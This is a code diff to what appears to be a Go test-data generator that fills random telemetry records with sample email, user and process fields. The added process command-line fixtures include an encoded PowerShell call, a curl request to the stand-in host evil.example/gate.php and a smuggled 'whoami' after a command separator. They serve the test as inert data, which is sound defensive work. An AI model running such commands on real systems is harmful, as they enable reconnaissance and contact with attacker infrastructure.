@@ -58,7 +58,8 @@ func pastRecord(rnd *rand.Rand, n int) telemetry.Record {
 		f["email"] = map[string]any{"from": map[string]any{"address": pick(rnd, "eve@evil.example", "Ada@good.test")}}
 	case 4:
 		f["user"] = map[string]any{"name": pick(rnd, `EXAMPLE\eve`, "eve", "ada")}
-		f["process"] = map[string]any{"command_line": pick(rnd, `powershell -enc AAAA`, `C:\Windows\notepad.exe "x y"`, "curl http://evil.example/gate.php")}
+		f["process"] = map[string]any{"command_line": pick[any](rnd, `powershell -enc AAAA`, `C:\Windows\notepad.exe "x y"`, "curl http://evil.example/gate.php",
+			`cmd /c echo "a" & whoami`, "caf\u00e9 --d\u00fcster", []string{"curl", "-s", "/gate.php"})}
 	}
 	b, err := json.Marshal(f)
 	if err != nil {
